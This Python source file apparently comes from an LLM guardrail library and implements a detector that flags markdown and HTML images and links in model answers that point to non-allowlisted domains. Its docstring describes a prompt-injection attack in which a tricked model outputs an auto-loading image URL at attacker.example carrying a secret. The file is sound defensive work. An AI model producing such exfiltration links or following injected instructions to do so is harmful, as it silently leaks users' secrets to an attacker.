"""Markdown images and links that send data to domains not on the allowlist.

A model tricked by an injected document can answer with
``![](https://attacker.example/p?q=<secret>)``: the chat UI fetches the image
and the secret leaves without a click. Links need a click, so they score lower.
Hosts are compared by registered domain (tldextract with its bundled public
suffix snapshot: no network), and an allowlist entry covers its subdomains.
"""

from __future__ import annotations

import functools
import re
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlsplit

import tldextract

from ramparts.detectors.base import Detector, Finding, ScanContext, Sensitivity
from ramparts.detectors.secrets.options import string_set

# ![alt](url "title"), [text](url), <img src="url">, <a href="url">, [ref]: url
# Classes exclude the brackets that open the next attempt, so attempts never
# overlap and a scan stays linear even on "[[[[" or "](](](" floods.
_MARKDOWN = re.compile(
    r"(?P<bang>!?)\[(?P<label>[^\[\]\n]{0,500}+)\]\(\s{0,4}<?(?P<url>[^\s()<>\[\]]{1,4096}+)"
)
# Every link destination, whatever its label: CommonMark labels may nest brackets
# (``![a[b]](url)``), escape them (``![a\]b](url)``) or break lines, and a renderer
# still shows an image. Destinations ``_MARKDOWN`` did not explain are judged by this.
_DESTINATION = re.compile(r"\]\(\s{0,4}<?(?P<url>[^\s()<>\[\]]{1,4096}+)")
_LABEL_REACH = 600  # how far back an unexplained destination looks for its "![" or "["
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
# Unanchored: a definition may sit in a block quote or list item (``> [r]: url``),
# and its destination may follow on the next line.
_REFERENCE = re.compile(
    r"\[(?P<label>[^\[\]\n]{1,200}+)\]:[ \t]{0,8}+(?:\n[ \t]{0,8}+)?<?(?P<url>[^\s<>]{1,4096}+)"
)
_IMAGE_REFERENCE = re.compile(r"!\[[^\[\]\n]{0,500}+\]\[(?P<label>[^\[\]\n]{1,200}+)\]")
_TAG = re.compile(
    r"(?i)<(?P<tag>img|a|iframe|source|video|audio|link|script|embed|object)\b(?P<attrs>[^<>]{0,4096}+)"
)
_URL_ATTRIBUTE = re.compile(
    r"(?i)\b(?:src|href|srcset|poster|data)\s{0,4}=\s{0,4}[\"']?(?P<url>[^\s\"'<>]{1,4096}+)"
)
_AUTOLOADED_TAGS = frozenset(
    {"img", "iframe", "source", "video", "audio", "link", "script", "embed", "object"}
)
_LONG_VALUE = 24


@dataclass(frozen=True, slots=True)
class _Reference:
    start: int
    end: int
    url: str
    autoloads: bool


@functools.lru_cache(maxsize=1)
def _extractor() -> tldextract.TLDExtract:
    return tldextract.TLDExtract(cache_dir=None, suffix_list_urls=())


def registered_domain(host: str) -> str:
    """example.co.uk for a.b.example.co.uk; the host itself for IPs and bare names.

    Not memoised: hosts come from model answers and may carry data
    (``sk-live-….attacker.example``), which must not outlive the scan.
    """
    result = _extractor()(host)
    if hasattr(result, "top_domain_under_public_suffix"):
        domain = result.top_domain_under_public_suffix
    else:  # tldextract < 5.3
        domain = result.registered_domain
    return str(domain or host).lower()


def is_allowed(host: str, allowed: frozenset[str]) -> bool:
    """An allowlist entry matches the host, its registered domain, or any parent domain."""
    host = host.lower().rstrip(".")
    if host in allowed or registered_domain(host) in allowed:
        return True
    return any(host.endswith("." + entry) for entry in allowed)


def carries_data(url: str) -> bool:
    """Query values or path segments long enough to smuggle data out."""
    parts = urlsplit(url)
    values = [v for _, v in parse_qsl(parts.query, keep_blank_values=True)]
    values += [s for s in parts.path.split("/") if s]
    return any(len(v) >= _LONG_VALUE for v in values) or len(parts.query) >= 2 * _LONG_VALUE


class ExfiltrationLinkDetector(Detector):
    """Images and links in a model answer that point outside the allowed domains.

    Options: ``allowed_domains`` (list of domains; subdomains are included).
    """

    name = "output.exfil_link"
    side = "output"
    kinds = ("exfil-image", "exfil-link")
    description = "Markdown/HTML images and links to domains not on the allowlist"

    def scan(self, text: str, context: ScanContext) -> list[Finding]:
        if "](" not in text and "]:" not in text and "<" not in text:
            return []
        allowed = frozenset(
            d.lower().lstrip(".") for d in string_set(context.options, "allowed_domains", self.name)
        )
        findings = []
        for reference in _references(text):
            host = urlsplit(reference.url).hostname
            if not host or is_allowed(host, allowed):
                continue
            findings.append(self._finding(context, text, reference, host))
        return findings

    def _finding(
        self, context: ScanContext, text: str, reference: _Reference, host: str
    ) -> Finding:
        smuggles = carries_data(reference.url)
        if reference.autoloads:
            kind, score, what = "exfil-image", (0.95 if smuggles else 0.7), "auto-loaded image"
        else:
            kind, score, what = "exfil-link", (0.75 if smuggles else 0.4), "link"
        payload = ", with a data-carrying query or path" if smuggles else ""
        return self.finding(
            context,
            text,
            reference.start,
            reference.end,
            kind=kind,
            score=score,
            explanation=f"{what} to {registered_domain(host)}, not an allowed domain{payload}",
            sensitivity=Sensitivity.RESTRICTED if smuggles else Sensitivity.CONFIDENTIAL,
        )


def _references(text: str) -> list[_Reference]:
    """Absolute and protocol-relative URLs only: relative ones cannot leave the site."""
    found = []
    explained = set()
    for m in _MARKDOWN.finditer(text):
        explained.add(m.end("label"))
        if "//" in m.group("url"):
            found.append(_Reference(m.start(), m.end(), m.group("url"), m.group("bang") == "!"))
    for m in _DESTINATION.finditer(text):
        if m.start() not in explained and "//" in m.group("url"):
            found.append(_unexplained_destination(text, m.start(), m.end(), m.group("url")))
    if "]:" in text:
        images = {m.group("label").lower() for m in _IMAGE_REFERENCE.finditer(text)}
        found += [
            _Reference(m.start(), m.end(), m.group("url"), m.group("label").lower() in images)
            for m in _REFERENCE.finditer(text)
            if "//" in m.group("url")
        ]
    if "<" in text:
        for tag in _TAG.finditer(text):
            autoloads = tag.group("tag").lower() in _AUTOLOADED_TAGS
            found += [
                _Reference(tag.start(), tag.end(), m.group("url"), autoloads)
                for m in _URL_ATTRIBUTE.finditer(tag.group("attrs"))
                if "//" in m.group("url")
            ]
    return sorted(found, key=lambda r: r.start)


def _unexplained_destination(text: str, close: int, end: int, url: str) -> _Reference:
    """A destination whose label ``_MARKDOWN`` cannot read: an image if a "![" opens
    in the same paragraph shortly before (over-approximate: a link then scores as an
    image, never the reverse)."""
    lo = max(0, close - _LABEL_REACH)
    bang = text.rfind("![", lo, close)
    if bang >= 0 and _BLANK_LINE.search(text, bang, close) is None:
        return _Reference(bang, end, url, True)
    opener = text.rfind("[", lo, close)
    return _Reference(opener if opener >= 0 else close, end, url, False)
